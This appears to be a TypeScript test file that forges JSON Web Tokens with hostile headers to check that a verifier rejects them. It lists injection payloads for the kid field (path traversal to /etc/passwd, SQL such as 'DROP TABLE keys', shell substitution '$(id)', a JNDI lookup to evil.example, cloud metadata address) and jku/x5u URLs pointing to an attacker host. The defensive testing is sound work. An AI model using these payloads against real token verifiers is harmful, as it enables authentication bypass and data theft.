import { createPublicKey, type KeyObject } from 'node:crypto';
import { base64url, type Forge } from './forge.ts';
import { each, type Forgeries, testForgeries } from './forgeries.ts';
import { ownOrigin } from './ways.ts';

const withHeader =
  (header: Record<string, unknown>) =>
  ({ mint }: Forge) =>
    mint({ header });

const IDS = {
  missing: undefined,
  null: null,
  'a number': 1,
  zero: 0,
  true: true,
  'an object': {},
  'no list': [],
  empty: '',
  'a space': ' ',
  unknown: '00000000-0000-4000-8000-000000000000',
  huge: 'k'.repeat(4000),
  'a path up': '../../../../../../dev/null',
  'a path': '/dev/null',
  'a path of Windows': 'C:\\Windows\\win.ini',
  'a path with an end': '../../../dev/null\0.pem',
  'a file address': 'file:///etc/passwd',
  'an address': 'https://evil.example/key.pem',
  'an address within': 'http://169.254.169.254/latest/meta-data/',
  SQL: "x' OR '1'='1",
  'SQL with a key': "x' UNION SELECT 'c2VjcmV0' -- ",
  'SQL that ends': "x'; DROP TABLE keys; --",
  PartiQL: "x' OR begins_with(PK, 'KEYS') OR 'a'='b",
  'an expression of the table': 'attribute_exists(PK)',
  'a partition of the table': 'KEYS',
  'a wildcard': '*',
  'a shell command': '$(id)',
  'a shell command in backticks': '`id`',
  'a pipe': '|id',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: this is how the attack is written
  JNDI: '${jndi:ldap://evil.example/a}',
  'a template': '{{7*7}}',
  'LDAP filter': '*)(uid=*))(|(uid=*',
  'a line end': 'x\r\nX-Injected: 1',
  'a prototype': '__proto__',
  'a constructor': 'constructor',
  'a method': 'toString',
  'an operator of queries': { $ne: null },
};

/** Ids that are nearly that of the key. */
const NEARLY: Readonly<Record<string, (kid: string) => unknown>> = {
  'in a list': (kid) => [kid],
  'in an object': (kid) => ({ kid }),
  'with a space': (kid) => `${kid} `,
  'with a zero byte': (kid) => `${kid}\0`,
  'with a line end': (kid) => `${kid}\n`,
  'without its last character': (kid) => kid.slice(0, -1),
  'with its case changed': (kid) =>
    kid.replace(/[a-z]/gi, (c) => (c === c.toLowerCase() ? c.toUpperCase() : c.toLowerCase())),
  'with its partition': (kid) => `KEYS#${kid}`,
  'after a path': (kid) => `./${kid}`,
  twice: (kid) => `${kid}${kid}`,
};

const jwkOf = (key: KeyObject) => createPublicKey(key).export({ format: 'jwk' });

/** Headers that bring or name a key of the forger. */
const BROUGHT: Readonly<Record<string, (forge: Forge) => Record<string, unknown>>> = {
  jwk: ({ stranger }) => ({ jwk: jwkOf(stranger) }),
  'jwk with its id and use': ({ stranger, header: { kid } }) => ({
    jwk: { ...jwkOf(stranger), kid, alg: 'ES256', use: 'sig' },
  }),
  'jwk with the private key': ({ stranger }) => ({ jwk: stranger.export({ format: 'jwk' }) }),
  'jwk of the instance': ({ publicKey }) => ({ jwk: publicKey.export({ format: 'jwk' }) }),
  jwks: ({ stranger }) => ({ jwks: { keys: [jwkOf(stranger)] } }),
  'jku elsewhere': () => ({ jku: 'https://evil.example/jwks.json' }),
  'jku of the instance': () => ({ jku: `${ownOrigin}/api/core/system/jwks` }),
  'jku that hides its host': () => ({ jku: `${ownOrigin}@evil.example/jwks.json` }),
  'jku that is a file': () => ({ jku: 'file:///etc/passwd' }),
  'jku that is data': ({ stranger }) => ({
    jku: `data:application/json;base64,${base64url(JSON.stringify({ keys: [jwkOf(stranger)] }))}`,
  }),
  x5u: () => ({ x5u: 'https://evil.example/certificate.pem' }),
  x5c: ({ stranger }) => ({
    x5c: [createPublicKey(stranger).export({ type: 'spki', format: 'der' }).toString('base64')],
  }),
  x5t: () => ({ x5t: base64url(Buffer.alloc(20)) }),
  'x5t#S256': () => ({ 'x5t#S256': base64url(Buffer.alloc(32)) }),
  nothing: () => ({}),
};

const brought = (kid?: (forge: Forge) => unknown): Forgeries =>
  each(
    BROUGHT,
    (header) => (forge) =>
      forge.mint({ header: { ...header(forge), ...(kid && { kid: kid(forge) }) }, key: forge.stranger }),
  );

const CRITICAL = {
  'a claim': { crit: ['exp'] },
  'an unknown name': { crit: ['x'], x: 1 },
  'an unknown name that is absent': { crit: ['x'] },
  'a name of the header': { crit: ['alg'] },
  'the id of the key': { crit: ['kid'] },
  nothing: { crit: [] },
  'an empty name': { crit: [''] },
  'a number': { crit: [1] },
  'a text': { crit: 'exp' },
  null: { crit: null },
  'an object': { crit: {} },
  true: { crit: true },
  'an unencoded payload': { crit: ['b64'], b64: false },
  'b64 twice and unencoded': { crit: ['b64', 'b64'], b64: false },
  'b64 that is absent': { crit: ['b64'] },
  'b64 that is a text': { crit: ['b64'], b64: 'false' },
  'a proof of possession': {
    crit: ['http://openbankingtest.org.uk/iat'],
    'http://openbankingtest.org.uk/iat': 1,
  },
};

// biome-ignore format: a list of words
const TYPES = [
  undefined, null, 1, true, [], ['at+jwt'], {}, '', ' ', 'JWT', 'jwt', 'JWS', 'JOSE', 'JWE', 'at', 'at+jwt ', ' at+jwt',
  'at-jwt', 'at+jwt+x', 'at+jws', 'rt+jwt', 'id+jwt', 'dpop+jwt', 'logout+jwt', 'secevent+jwt', 'kb+jwt',
  'client-authentication+jwt', 'entity-statement+jwt', 'application/jwt', 'text/at+jwt',
  'application/application/at+jwt', 'at+jwt;v=1',
];

testForgeries(
  {
    'RFC 8725 3.10: well signed, with a kid that is': each(IDS, (kid) => withHeader({ kid })),
    'RFC 8725 3.10: well signed, with the kid': each(
      NEARLY,
      (near) =>
        ({ mint, header }) =>
          mint({ header: { kid: near(header['kid'] as string) } }),
    ),
    'RFC 8725 3.1, 3.10: of a strange key under the kid of ours, with': brought(),
    'RFC 8725 3.10: of a strange key under a kid of its own, with': brought(() => 'stranger'),
    'RFC 8725 3.10: of a strange key without a kid, with': brought(() => undefined),
    'RFC 7515 4.1.11, RFC 7797 6: well signed, with the critical header': each(CRITICAL, withHeader),
    'RFC 8725 3.11, RFC 9068 2.1: well signed, of the type': each(TYPES, (typ) => withHeader({ typ })),
    'RFC 7797: a payload that is not encoded': {
      'with b64 as critical': ({ mint, claims }) =>
        mint({ header: { b64: false, crit: ['b64'] } }).replace(/\..*\./, `.${JSON.stringify(claims)}.`),
      'without saying so': ({ mint, claims }) => mint().replace(/\..*\./, `.${JSON.stringify(claims)}.`),
    },
  },
  {
    // RFC 7515 4: what is not understood is ignored. The key is that of the kid, whatever else is named.
    'with the key of a stranger beside the good kid and signature (RFC 7515 4)': (forge) =>
      forge.mint({ header: { jwk: jwkOf(forge.stranger), jku: 'https://evil.example/jwks.json' } }),
    'with a content type (RFC 7519 5.2)': ({ mint }) => mint({ header: { cty: 'json' } }),
    'with its type in full and in capitals (RFC 9068 4, RFC 7515 4.1.9)': ({ mint }) =>
      mint({ header: { typ: 'application/AT+JWT' } }),
  },
);
